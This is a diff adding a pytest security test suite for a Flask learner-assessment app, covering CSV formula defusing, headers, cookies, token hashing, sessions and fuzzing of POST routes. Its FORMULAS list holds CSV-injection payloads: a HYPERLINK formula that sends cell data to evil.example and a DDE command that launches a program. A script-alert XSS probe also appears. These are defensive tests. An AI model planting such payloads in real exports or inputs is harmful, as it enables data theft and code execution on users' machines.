+    writer = csv.writer(out)
+    for i, p in enumerate(PAYLOADS):
+        writer.writerow([f"V{i} {p}", p, p])
+    response = admin.post("/staff/learners/import", {"rows": out.getvalue()})
+    assert response.status_code == 200
+    imported = [
+        f"V{i} {p}"
+        for i, p in enumerate(PAYLOADS)
+        if _fits(p, "candidate") and _fits(f"V{i} {p}", "name")
+    ]
+    site.check("import", response, imported)
+    stored["names"] += imported
+
+    # and through the command line
+    for i, p in enumerate(PAYLOADS):
+        name = f"L{i} {p}"
+        result = site.runner.invoke(
+            args=["learners", "add", name, "--job-role", p, "--candidate-number", p]
+        )
+        assert result.exit_code == (0 if _fits(name.strip(), "name") else 1), result.output
+        if result.exit_code == 0:
+            stored["names"].append(name.strip())
+
+    # staff names, each the assessor of one payload learner
+    for i, p in enumerate(PAYLOADS):
+        name = f"S{i} {p}"
+        data = {
+            "name": name,
+            "email": f"s{i}@centre.example",
+            "role": "assessor",
+            "password": PASSWORD,
+            "confirm": PASSWORD,
+        }
+        response = admin.post("/staff/users", data)
+        assert response.status_code == (303 if _fits(name, "name") else 400), name[:40]
+        site.check(f"user S{i}", response)
+        if response.status_code == 303:
+            stored["staff"].append(name)
+
+    # the learner's own job title, an assessment plan, a contract signed by both sides
+    for i, p in enumerate(PAYLOADS):
+        label = f"N{i}"
+        if label not in site.learners:
+            continue
+        lid = site.learners[label]
+        learner = learner_visitor(app, site.tokens[label])
+        job = f"J{i} {p}"
+        response = learner.post("/assessment/job", {"job_role": "other", "job_role_other": job})
+        assert response.status_code == (303 if _fits(job, "role") else 400)
+        site.check(f"{label} job page post", response, [] if _fits(job, "role") else [job])
+        if _fits(job, "role"):
+            stored["others"].append(job)
+        response = admin.post(f"/staff/learners/{lid}/plan", {"action": "confirm", "units": VALID})
+        assert response.status_code == 303
+        row = {
+            "units": ["F1"],
+            "observed_when": f"W{i} {p}",
+            "observed_where": f"P{i} {p}",
+            "activity": f"T{i} {p}",
+            "evidence": ["observation"],
+        }
+        response = admin.post(f"/staff/learners/{lid}/assessment-plan", row)
+        row_fits = _fits(row["observed_when"], "when")
+        assert response.status_code == (303 if row_fits else 400)
+        site.check(f"{label} plan row post", response, [] if row_fits else [row["activity"]])
+        assert admin.post(f"/staff/learners/{lid}/contract", {"action": "issue"}).status_code == 303
+        signed = []
+        learner_sign, assessor_sign = f"G{i} {p}", f"H{i} {p}"
+        response = learner.post("/contract", {"name": learner_sign})
+        assert response.status_code == (303 if _fits(learner_sign, "sign") else 400)
+        site.check(f"{label} learner signs", response)
+        response = admin.post(
+            f"/staff/learners/{lid}/contract", {"action": "sign", "name": assessor_sign}
+        )
+        assert response.status_code == (303 if _fits(assessor_sign, "sign") else 400)
+        site.check(f"{label} assessor signs", response)
+        if _fits(learner_sign, "sign"):
+            signed += [learner_sign, assessor_sign]
+        plan_values = [row["observed_when"], row["observed_where"], row["activity"]]
+        plan_values = plan_values if row_fits else []
+        # the learner's pages
+        for path, present in (
+            ("/assessment/job", [job] if _fits(job, "role") else []),
+            ("/result", [f"N{i} {p}"]),
+            ("/contract", plan_values + signed),
+            ("/my-record", [job] if _fits(job, "role") else []),
+            ("/forget", [f"N{i} {p}"]),
+        ):
+            site.check(f"{label} {path}", learner.get(path), present)
+        # the assessor's pages about this learner
+        if f"S{i} {p}" in stored["staff"]:
+            staff_id = with_db(
+                app,
+                lambda db, e=f"s{i}@centre.example": store.staff_by_email(db, e)["id"],
+            )
+            assert (
+                admin.post(f"/staff/learners/{lid}/assessor", {"assessor": staff_id}).status_code
+                == 303
+            )
+        base = f"/staff/learners/{lid}"
+        for path, present in (
+            (base, [f"N{i} {p}"] + ([job] if _fits(job, "role") else [])),
+            (f"{base}/plan", [f"N{i} {p}"]),
+            (f"{base}/assessment-plan", plan_values),
+            (f"{base}/contract", plan_values + signed),
+            (f"{base}/audit", [f"N{i} {p}"] + signed),
+        ):
+            site.check(f"{label} {path}", admin.get(path), present)
+    # the learners of the other ways in: their own page shows name, candidate number, role
+    for label, lid in site.learners.items():
+        if label[0] in "CR":
+            site.check(f"{label} gap report", admin.get(f"/staff/learners/{lid}"))
+
+    # the pages about everyone
+    everything = stored["names"] + stored["others"] + stored["staff"]  # assessors too
+    site.check("learner list", admin.get("/staff/learners"), everything)
+    site.check("staff users", admin.get("/staff/users"), stored["staff"])
+    site.check("cohort", admin.get("/staff/cohort"), stored["names"])
+    site.check("qr sheet", admin.get("/qr/units"))
+    for page in range(0, 20):
+        response = admin.get(f"/staff/audit?page={page}")
+        site.check(f"audit page {page}", response)
+        if "Nothing recorded yet" in text(response):
+            break
+    assert not site.failures, "\n".join(site.failures[:60])
+
+
+def _csv_cells(response) -> list[str]:
+    assert response.status_code == 200, response.request.path
+    assert response.mimetype == "text/csv"
+    assert "attachment" in response.headers.get("Content-Disposition", "")
+    return [cell for row in csv.reader(io.StringIO(text(response))) for cell in row]
+
+
+FORMULAS = [
+    "=1+2",
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "+1+2",
+    "-3+4",
+    "@SUM(1,2)",
+    "=cmd|' /C calc'!A0",
+    "\t=1+2",
+    "\r=1+2",
+]
+
+
+def test_csv_exports_defuse_formulas(fresh_app):
+    app = fresh_app
+    admin, _ = staff_visitor(app, "admin", "Fay Admin", "fay@centre.example")
+    runner = app.test_cli_runner()
+    injected: list[str] = []
+    learner_ids = []
+    for i, f in enumerate(FORMULAS):
+        # name, candidate number and job title from the staff form (which strips spaces) …
+        response = admin.post(
+            "/staff/learners", {"name": f, "candidate_number": f[:40], "job_role": f}
+        )
+        assert response.status_code == 200
+        token = re.findall(r"/l/([a-z0-9]{26})", text(response))[0]
+        lid = with_db(app, lambda db, t=token: store.learner_by_token(db, t)["id"])
+        learner_ids.append(lid)
+        injected.append(f.strip())
+        # … the command line keeps a candidate number as given, tab or carriage return first
+        result = runner.invoke(args=["learners", "add", f"Cli {i}", "--candidate-number", f])
+        assert result.exit_code == 0, result.output
+        injected.append(f)
+        # the learner's own job title, the assessment plan, and both signatures
+        learner = learner_visitor(app, token)
+        learner.post("/assessment/job", {"job_role": "other", "job_role_other": f})
+        assert (
+            admin.post(
+                f"/staff/learners/{lid}/plan", {"action": "confirm", "units": VALID}
+            ).status_code
+            == 303
+        )
+        row = {**ROW, "observed_when": f, "observed_where": f, "activity": f}
+        assert admin.post(f"/staff/learners/{lid}/assessment-plan", row).status_code == 303
+        assert admin.post(f"/staff/learners/{lid}/contract", {"action": "issue"}).status_code == 303
+        assert learner.post("/contract", {"name": f}).status_code == 303
+        response = admin.post(f"/staff/learners/{lid}/contract", {"action": "sign", "name": f})
+        assert response.status_code == 303
+        # the learner's own download
+        if "learner.my_data_csv" in {r.endpoint for r in app.url_map.iter_rules()}:
+            cells = _csv_cells(learner.get("/my-data.csv"))
+            bad = [c for c in cells if c.startswith(FORMULA_START)]
+            assert not bad, f"my-data.csv: {bad[:5]}"
+            assert "'" + f.strip() in cells
+    exports = {"cohort.csv": admin.get("/staff/cohort.csv")}
+    for lid in learner_ids:
+        exports[f"report.csv {lid}"] = admin.get(f"/staff/learners/{lid}/report.csv")
+        if "staff.export_learner_csv" in {r.endpoint for r in app.url_map.iter_rules()}:
+            exports[f"export.csv {lid}"] = admin.get(f"/staff/learners/{lid}/export.csv")
+    all_cells = []
+    for name, response in exports.items():
+        cells = _csv_cells(response)
+        bad = [c for c in cells if c.startswith(FORMULA_START)]
+        assert not bad, f"{name}: cells a spreadsheet would run: {bad[:5]}"
+        all_cells += cells
+    for value in injected:
+        assert "'" + value in all_cells, f"{value!r} is not in any export, defused"
+
+
+# ---- 4. headers, cookies, error pages --------------------------------------------------------
+
+
+def test_static_files_carry_the_headers_too(w):
+    with w.client("anonymous").get("/static/style.css") as response:
+        assert response.status_code == 200
+        assert not header_problems(response)
+
+
+def test_error_responses_carry_the_headers_and_no_internals(w):
+    client = w.client("anonymous")
+    responses = {
+        404: client.get("/no/such/page"),
+        405: client.get("/staff/logout"),
+        400: client.post("/code", data={"code": "x"}),
+        413: client.post(
+            "/code", data={"csrf_token": w.csrf["anonymous"], "code": "x" * (300 * 1024)}
+        ),
+    }
+    email = w.staff["assessor_b"]["email"]
+    for _ in range(3):  # after 3 failed tries the next must wait
+        assert (
+            w.request(
+                "anonymous", "POST", "/staff/login", {"email": email, "password": "no"}
+            ).status_code
+            == 401
+        )
+    responses[429] = w.request(
+        "anonymous", "POST", "/staff/login", {"email": email, "password": "x"}
+    )
+    responses[403] = w.request("assessor_a", "GET", "/staff/users")
+    responses[401] = w.request("anonymous", "POST", "/assessment/save", {"name": "x"})
+    for status, response in responses.items():
+        assert response.status_code == status, (status, text(response)[:200])
+        assert not page_problems(response), (status, page_problems(response))
+        assert "werkzeug" not in text(response).lower()
+
+
+SQL_ERROR = (
+    'no such column: password_hash_secret in "SELECT password_hash_secret FROM staff '
+    "WHERE email = 'x'\""
+)
+
+
+@pytest.mark.parametrize("accept", ["text/html", "application/json"])
+@pytest.mark.parametrize("testing", [True, False])
+def test_a_500_shows_no_stack_trace_and_no_sql(tmp_path, accept, testing):
+    app = create_app(
+        {
+            "TESTING": testing,
+            "NO_SETUP_LINK": True,
+            "SECRET_KEY": SECRET,
+            "DATABASE": str(tmp_path / "boom.db"),
+        }
+    )
+
+    def boom():  # type: ignore[no-untyped-def]
+        raise sqlite3.OperationalError(SQL_ERROR)
+
+    app.add_url_rule("/test-only/boom", "boom", boom)
+    app.logger.disabled = True  # the log is for the operator; this test reads the page
+    response = app.test_client().get("/test-only/boom", headers={"Accept": accept})
+    assert response.status_code == 500
+    body = text(response)
+    for leak in ("Traceback", "OperationalError", "SELECT", "password_hash", "sqlite", "line "):
+        assert leak not in body, leak
+    assert not page_problems(response)
+
+
+@pytest.mark.parametrize("how", ["config", "environment"])
+def test_cookies_are_secure_when_the_public_url_is_https(tmp_path, monkeypatch, how):
+    config = {"TESTING": True, "SECRET_KEY": SECRET, "DATABASE": str(tmp_path / "s.db")}
+    if how == "config":
+        config["PUBLIC_URL"] = "https://assess.example.org"
+    else:
+        monkeypatch.setenv("FLASK_PUBLIC_URL", "https://assess.example.org")
+    app = create_app(config)
+    staff = new_staff(app, "admin", "Sec Admin", "sec@centre.example")
+    _, token = with_db(app, lambda db: store.create_learner(db, "Sec Learner"))
+    client = app.test_client()
+    https = {"base_url": "https://assess.example.org"}
+    set_cookies = []
+    response = client.get(f"/l/{token}", **https)
+    set_cookies += response.headers.getlist("Set-Cookie")
+    page = client.get("/staff/login", **https)
+    set_cookies += page.headers.getlist("Set-Cookie")
+    response = client.post(
+        "/staff/login",
+        data={"csrf_token": scrape_csrf(page), "email": staff["email"], "password": PASSWORD},
+        # over https Flask-WTF also wants a same-site Referer
+        headers={"Referer": "https://assess.example.org/staff/login"},
+        **https,
+    )
+    assert response.status_code == 302
+    set_cookies += response.headers.getlist("Set-Cookie")
+    assert set_cookies
+    for cookie in set_cookies:
+        flags = [f.strip().lower() for f in cookie.split(";")[1:]]
+        assert {"secure", "httponly", "samesite=lax"} <= set(flags), cookie
+
+
+def test_over_https_a_post_from_another_site_is_refused(tmp_path):
+    """Flask-WTF's strict Referer check: a form posted from another origin changes nothing."""
+    app = create_app(
+        {
+            "TESTING": True,
+            "SECRET_KEY": SECRET,
+            "DATABASE": str(tmp_path / "r.db"),
+            "PUBLIC_URL": "https://assess.example.org",
+        }
+    )
+    staff = new_staff(app, "admin", "Ref Admin", "ref@centre.example")
+    client = app.test_client()
+    https = {"base_url": "https://assess.example.org"}
+    page = client.get("/staff/login", **https)
+    data = {"csrf_token": scrape_csrf(page), "email": staff["email"], "password": PASSWORD}
+    for referer in ("https://evil.example/staff/login", "http://assess.example.org/staff/login"):
+        response = client.post("/staff/login", data=data, headers={"Referer": referer}, **https)
+        assert response.status_code == 400, referer
+    before = dump_db(app.config["DATABASE"])
+    assert client.post("/staff/login", data=data, **https).status_code == 400  # no Referer
+    assert dump_db(app.config["DATABASE"]) == before
+
+
+def test_cookies_are_httponly_and_lax_without_https(w):
+    response = w.client("anonymous").get(f"/l/{w.token_a}")
+    cookie = response.headers["Set-Cookie"]
+    flags = [f.strip().lower() for f in cookie.split(";")[1:]]
+    assert "httponly" in flags and "samesite=lax" in flags
+
+
+# ---- 5. tokens and sessions ------------------------------------------------------------------
+
+
+def _raw_secrets(w: World) -> dict[str, str]:
+    found = {"learner A's token": w.token_a, "learner B's token": w.token_b}
+    found["setup link"] = w.setup_token
+    for visitor in w.staff:
+        found[f"{visitor}'s session token"] = w.session_of(visitor)["staff_session"]
+    return found
+
+
+def test_tokens_and_setup_links_are_stored_only_as_hashes(w):
+    # a reissued link too
+    response = w.request("assessor_a", "POST", f"/staff/learners/{w.learner_a}/reissue")
+    new_token = re.findall(r"/l/([a-z0-9]{26})", text(response))[0]
+    raw = {**_raw_secrets(w), "the reissued token": new_token}
+    data = db_bytes(w.path)
+    assert store.hash_token(new_token).encode() in data  # the right file is being read
+    dumped = json.dumps(w.dump(), ensure_ascii=False)
+    for what, token in raw.items():
+        assert token
+        for form in {token, token.upper(), store.pretty_token(token)}:
+            assert form.encode() not in data, f"{what} is in the database file"
+            assert form not in dumped, f"{what} is in a table"
+
+
+def test_exports_never_carry_a_token_or_its_hash(w):
+    with closing(sqlite3.connect(w.path)) as db:
+        token_hash = db.execute(
+            "SELECT token_hash FROM learners WHERE id = ?", [w.learner_a]
+        ).fetchone()[0]
+    pages = []
+    endpoints = w.endpoints()
+    for endpoint, visitor in (
+        ("staff.export_learner_json", "admin"),
+        ("staff.export_learner_csv", "admin"),
+        ("learner.my_data_json", "learner_a"),
+        ("learner.my_data_csv", "learner_a"),
+    ):
+        if endpoint in endpoints:
+            pages.append((endpoint, w.request(visitor, "GET", w.url(endpoint))))
+    for endpoint, response in pages:
+        assert response.status_code == 200, endpoint
+        body = text(response)
+        assert "Alex Able" in body
+        for secret in (w.token_a, token_hash, token_hash[:32], store.pretty_token(w.token_a)):
+            assert secret not in body, f"{endpoint} carries a secret"
+
+
+def test_tokens_are_looked_up_by_their_hash_never_sent_to_the_database(w, monkeypatch):
+    statements: list[str] = []
+    connect = survey.db.connect
+
+    def traced(path):  # type: ignore[no-untyped-def]
+        db = connect(path)
+        db.conn.set_trace_callback(statements.append)
+        return db
+
+    monkeypatch.setattr(survey.db, "connect", traced)
+    raw = _raw_secrets(w)
+    assert w.request("anonymous", "GET", f"/l/{w.token_a}").status_code == 302
+    assert w.request("anonymous", "POST", "/code", {"code": w.token_b}).status_code == 302
+    assert w.request("anonymous", "GET", f"/staff/setup/{w.setup_token}").status_code == 404
+    for visitor in w.staff:
+        assert w.request(visitor, "GET", "/staff/cohort").status_code == 200
+    assert w.request("learner_a", "GET", "/my-record").status_code == 200
+    sql = "\n".join(statements)
+    assert store.hash_token(w.token_a) in sql  # the lookup is there, by hash
+    assert hashlib.sha256(raw["admin's session token"].encode()).hexdigest() in sql
+    for what, token in raw.items():
+        assert token not in sql, f"{what} was sent to the database"
+
+
+def test_a_remembered_device_is_checked_in_constant_time(w, monkeypatch):
+    calls = []
+    real = store.hmac.compare_digest
+
+    def spy(a, b):  # type: ignore[no-untyped-def]
+        calls.append((a, b))
+        return real(a, b)
+
+    monkeypatch.setattr(store.hmac, "compare_digest", spy)
+    assert w.request("learner_a", "GET", "/my-record").status_code == 200
+    assert calls, "the device key was not compared with hmac.compare_digest"
+    learner = with_db(w.app, lambda db: store.learner(db, w.learner_a))
+    key = store.device_key(learner)
+    assert store.device_key_matches(learner, key)
+    assert not store.device_key_matches(learner, key[:-1] + ("0" if key[-1] != "0" else "1"))
+    assert not store.device_key_matches(learner, "")
+
+
+def test_a_reissued_link_stops_the_old_link_and_signs_out_every_device(w):
+    assert w.request("learner_a", "GET", "/assessment/job").status_code == 200
+    response = w.request("assessor_a", "POST", f"/staff/learners/{w.learner_a}/reissue")
+    assert response.status_code == 200
+    new_token = re.findall(r"/l/([a-z0-9]{26})", text(response))[0]
+    assert new_token != w.token_a
+    assert outcome(w.request("learner_a", "GET", "/assessment/job")) == "code"
+    assert w.request("anonymous", "GET", f"/l/{w.token_a}").status_code == 404
+    assert w.request("anonymous", "POST", "/code", {"code": w.token_a}).status_code == 400
+    client = w.app.test_client()
+    assert client.get(f"/l/{new_token}").status_code == 302
+    assert client.get("/my-record").status_code == 200
+
+
+def test_an_archived_learner_is_signed_out_and_their_link_stops(w):
+    response = w.request("assessor_a", "POST", f"/staff/learners/{w.learner_a}/archive")
+    assert response.status_code == 303
+    assert outcome(w.request("learner_a", "GET", "/my-record")) == "code"
+    assert w.request("anonymous", "GET", f"/l/{w.token_a}").status_code == 404
+
+
+def test_a_staff_session_cookie_stops_working_after_sign_out(w):
+    assert w.request("admin", "GET", "/staff/learners").status_code == 200
+    response = w.request("admin", "POST", "/staff/logout")
+    assert response.status_code == 302
+    # the cookie as it was before signing out, e.g. copied off the machine
+    assert outcome(w.request("admin", "GET", "/staff/learners")) == "login"
+    assert outcome(w.request("admin", "POST", "/staff/learners", {"name": "X"})) == "login"
+
+
+def test_disabling_an_account_ends_its_sessions(w):
+    assert w.request("assessor_b", "GET", "/staff/learners").status_code == 200
+    url = f"/staff/users/{w.staff['assessor_b']['id']}/disable"
+    assert w.request("admin", "POST", url).status_code == 303
+    assert outcome(w.request("assessor_b", "GET", "/staff/learners")) == "login"
+    response = w.request(
+        "anonymous",
+        "POST",
+        "/staff/login",
+        {"email": w.staff["assessor_b"]["email"], "password": PASSWORD},
+    )
+    assert response.status_code == 401
+
+
+def test_each_sign_in_gets_a_new_session_token(w):
+    tokens = set()
+    for _ in range(2):
+        client = w.app.test_client()
+        assert sign_in(client, w.staff["admin"]["email"]).status_code == 302
+        cookie = client.get_cookie(w.app.config["SESSION_COOKIE_NAME"])
+        serializer = w.app.session_interface.get_signing_serializer(w.app)
+        tokens.add(serializer.loads(cookie.value)["staff_session"])
+    assert len(tokens) == 2
+
+
+def test_the_setup_link_works_once_and_is_stored_hashed(fresh_app):
+    app = fresh_app
+    token = with_db(app, store.create_setup_link)
+    assert token and token.encode() not in db_bytes(app.config["DATABASE"])
+    client = app.test_client()
+    page = client.get(f"/staff/setup/{token}")
+    assert page.status_code == 200
+    data = {
+        "csrf_token": scrape_csrf(page),
+        "name": "First Admin",
+        "email": "first@centre.example",
+        "password": PASSWORD,
+        "confirm": PASSWORD,
+    }
+    assert client.post(f"/staff/setup/{token}", data=data).status_code == 302
+    other = app.test_client()
+    assert other.get(f"/staff/setup/{token}").status_code == 404
+    data["email"] = "second@centre.example"
+    data["csrf_token"] = scrape_csrf(other.get("/staff/login"))
+    assert other.post(f"/staff/setup/{token}", data=data).status_code == 404
+    assert with_db(app, store.staff_count) == 1
+
+
+def test_an_erased_learner_leaves_nothing_in_the_database_file(w):
+    if w.rule("staff.erase_learner") is None:
+        pytest.skip("no erasure yet")
+    before = db_bytes(w.path)
+    assert b"Alex Able" in before and b"Barista" in before
+    response = w.request(
+        "admin", "POST", f"/staff/learners/{w.learner_a}/erase", {"confirm": "Alex Able"}
+    )
+    assert response.status_code == 303
+    after = db_bytes(w.path)
+    for trace in (b"Alex Able", b"Barista"):
+        assert trace not in after, f"{trace!r} is still in the database file after erasure"
+    assert outcome(w.request("learner_a", "GET", "/my-record")) == "code"
+
+
+# ---- bugs: found by these tests --------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("visitor", "method", "url"),
+    [
+        ("admin", "GET", "/staff/learners/99999999999999999999"),
+        ("admin", "GET", "/staff/learners/99999999999999999999/report.csv"),
+        ("admin", "GET", "/staff/learners/99999999999999999999/export.json"),
+        ("admin", "POST", "/staff/learners/99999999999999999999/reissue"),
+        ("admin", "POST", "/staff/users/99999999999999999999/disable"),
+        ("admin", "GET", "/staff/audit?page=99999999999999999999"),
+        ("learner_a", "GET", "/check/B1/results/99999999999999999999"),
+    ],
+)
+def test_a_number_too_big_for_sqlite_is_a_404_not_a_500(w, visitor, method, url):
+    """An id (or audit page) above 2**63 reaches SQLite, which raises OverflowError: a 500."""
+    response = w.request(visitor, method, url)
+    assert response.status_code < 500, f"{method} {url}: {response.status_code}"
+
+
+def test_a_plan_suggestion_number_in_superscript_is_a_400_not_a_500(w):
+    """'²'.isdigit() is True but int('²') raises ValueError (staff.plan, action 'use-²')."""
+    response = w.request(
+        "assessor_a", "POST", f"/staff/learners/{w.learner_a}/plan", {"action": "use-²"}
+    )
+    assert response.status_code == 400
+
+
+@pytest.mark.parametrize(
+    ("path", "field"),
+    [
+        ("/check/F1", "r-F1-1.1"),
+        ("/assessment/F1-1", "r-F1-1.1"),
+        ("/assessment/job", "c-writing"),
+    ],
+)
+@pytest.mark.parametrize("blank", [" ", "\t", "\u3000"])
+def test_a_blank_answer_is_refused_not_a_500(w, path, field, blank):
+    """WTForms' Optional() clears ChoiceField.pre_validate's error when the value is only
+    whitespace, so the value reaches int() (ratings: ValueError) or SQLite's CHECK (context
+    answers: IntegrityError): a 500 (survey/forms.py _rating_field/_context_field,
+    survey/views/learner.py _valid)."""
+    answers = ("ratings", "check_ratings", "context_answers", "self_checks", "audit")
+    before = w.dump()
+    response = w.request("learner_b", "POST", path, {field: blank})
+    assert response.status_code in (303, 400), response.status_code  # ignored, or refused
+    after = w.dump()
+    assert [t for t in changed_tables(before, after) if t in answers] == []
+
+
+def test_a_blank_job_role_is_refused_not_stored(w):
+    """The same Optional() on the job page's SelectField: a job role of " " is saved."""
+    response = w.request("learner_b", "POST", "/assessment/job", {"job_role": " "})
+    with closing(sqlite3.connect(w.path)) as db:
+        (role,) = db.execute("SELECT job_role FROM learners WHERE id = ?", [w.learner_b]).fetchone()
+    assert role == "", f"stored job role {role!r} (reply {response.status_code})"
+
+
+# ---- 6. property-based: random and malformed forms to every POST route -----------------------
+
+FIELD_NAMES = [
+    "r-F1-1.1",
+    "r-F1-1.2",
+    "r-B1-1.1",
+    "r-B1-1.4",
+    "r-A3-unit",
+    "r-ZZ-1.1",
+    "c-face-to-face",
+    "c-writing",
+    "c-nope",
+    "job_role",
+    "job_role_other",
+    "interests",
+    "name",
+    "value",
+    "page",
+    "go",
+    "code",
+    "next",
+    "email",
+    "password",
+    "confirm",
+    "role",
+    "candidate_number",
+    "assessor",
+    "rows",
+    "units",
+    "observed_when",
+    "observed_where",
+    "activity",
+    "evidence",
+    "action",
+    "statement",
+    "rating",
+    "a-F1:1.1",
+    "a-B1:1.2",
+    "a-ZZ:9",
+]
+SPECIAL_VALUES = [
+    "",
+    " ",
+    "0",
+    "1",
+    "2",
+    "3",
+    "4",
+    "-1",
+    "3.0",
+    " 2",
+    "yes",
+    "sometimes",
+    "no",
+    "maybe",
+    "other",
+    "None",
+    "F1",
+    "B1",
+    "A3",
+    "A4",
+    "B2",
+    "C3",
+    "D1",
+    "ZZ9",
+    "F1:1.1",
+    "B1:1.1",
+    "A3:unit",
+    "A3:1",
+    "A3:0",
+    "F1:1",
+    "ZZ:1",
+    "r-F1-1.1",
+    "r-B1-1.1",
+    "c-face-to-face",
+    "use-0",
+    "use-1",
+    "use-99",
+    "use-",
+    "use--1",
+    "confirm",
+    "save",
+    "check",
+    "issue",
+    "sign",
+    "observation",
+    "simulation",
+    "assessor",
+    "admin",
+    "verifier",
+    "Alex Able",
+    PASSWORD,
+    "admin@centre.example",
+    "job",
+    "F1-1",
+    "review",
+    "interests",
+    "back",
+    "\x00",
+    "\u202e",
+    "<script>alert(1)</script>",
+    "9" * 30,
+    "Imported, 1, Chef\n,,\nname",
+    "y" * 2001,
+    "z" * 90_000,  # a few of these together pass the 256 KB limit: 413
+]
+_value = st.one_of(
+    st.sampled_from(SPECIAL_VALUES),
+    st.text(st.characters(codec="utf-8"), max_size=30),
+    st.builds(lambda ch, n: ch * n, st.characters(codec="utf-8"), st.integers(0, 300)),
+)
+_key = st.one_of(
+    st.sampled_from(FIELD_NAMES),
+    st.text(st.characters(codec="utf-8"), max_size=12).filter(lambda k: k != "csrf_token"),
+)
+FORMS = st.dictionaries(_key, st.one_of(_value, st.lists(_value, max_size=4)), max_size=8)
+
+
+def _fuzz_visitor(endpoint: str) -> str:
+    table = EXPECTED[endpoint]["POST"]
+    for visitor in ("learner_b", "learner_a", "admin", "anonymous"):
+        if table[visitor] == "ok":
+            return visitor
+    return "anonymous"
+
+
+def stored_data_problems(path: str, q) -> list[str]:
+    """Whatever was sent, the stored data must stay valid."""
+    problems = []
+    with closing(sqlite3.connect(path)) as db:
+        for table in ("ratings", "check_ratings", "assessor_ratings"):
+            for statement_id, rating in db.execute(f"SELECT statement_id, rating FROM {table}"):
+                if q.statement(statement_id) is None or rating not in (0, 1, 2, 3):
+                    problems.append(f"{table}: {statement_id!r} = {rating!r}")
+        for context_id, answer in db.execute("SELECT context_id, answer FROM context_answers"):
+            if q.context(context_id) is None or answer not in ANSWERS:
+                problems.append(f"context_answers: {context_id!r} = {answer!r}")
+        for (unit,) in db.execute("SELECT unit FROM interests"):
+            if q.unit(unit) is None:
+                problems.append(f"interests: {unit!r}")
+        optional = {u.number for u in q.optional_units}
+        for (units,) in db.execute("SELECT units FROM plans"):
+            if not set(json.loads(units)) <= optional:
+                problems.append(f"plans: {units}")
+        evidence_kinds = {
+            "observation",
+            "witness",
+            "discussion",
+            "questioning",
+            "products",
+            "simulation",
+        }
+        for units, evidence in db.execute("SELECT units, evidence FROM assessment_plan_rows"):
+            if not all(q.unit(u) for u in json.loads(units)) or not json.loads(units):
+                problems.append(f"assessment_plan_rows units: {units}")
+            if not set(json.loads(evidence)) <= evidence_kinds or not json.loads(evidence):
+                problems.append(f"assessment_plan_rows evidence: {evidence}")
+        roles = {r.title for r in q.roles} | {"", "other"}
+        for role, other in db.execute("SELECT job_role, job_role_other FROM learners"):
+            if role not in roles or len(other) > 100:
+                problems.append(f"learners: job role {role[:40]!r} / {other[:40]!r}")
+            if other and role != "other":
+                problems.append(f"learners: a job title {other[:40]!r} with role {role[:40]!r}")
+        for (role,) in db.execute("SELECT role FROM staff"):
+            if role not in ("admin", "assessor", "verifier"):
+                problems.append(f"staff: role {role!r}")
+    return problems
+
+
+# the URL's own parameters vary too: another page of the assessment, another unit, learner B
+URL_PARAMS = {
+    "key": st.sampled_from(["job", "F1-1", "F2-2", "group-B", "group-E", "interests", "review"]),
+    "number": st.sampled_from(["B1", "F1", "A3", "b1", "ZZ9"]),
+    "learner_id": st.sampled_from(["learner_a", "learner_b"]),
+}
+
+
+@pytest.mark.parametrize("endpoint", POST_ENDPOINTS)
+@settings(
+    max_examples=50,
+    deadline=None,
+    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
+)
+@given(form=FORMS, data=st.data())
+def test_random_forms_never_cause_a_500_or_bad_data(world, endpoint, form, data):
+    if world.rule(endpoint) is None:
+        pytest.skip(f"{endpoint} does not exist yet")
+    world.restore()
+    visitor = _fuzz_visitor(endpoint)
+    params = {}
+    for name in world.rule(endpoint).arguments & set(URL_PARAMS):
+        params[name] = data.draw(URL_PARAMS[name], label=name)
+        if name == "learner_id":
+            params[name] = getattr(world, params[name])
+    response = world.request(visitor, "POST", world.url(endpoint, **params), form)
+    event(f"status {response.status_code}")
+    assert response.status_code < 500, f"{endpoint} as {visitor}: {response.status_code}"
+    assert outcome(response) != "csrf-refused"
+    assert not header_problems(response)
+    problems = stored_data_problems(world.path, world.app.extensions["qualification"])
+    assert not problems, problems
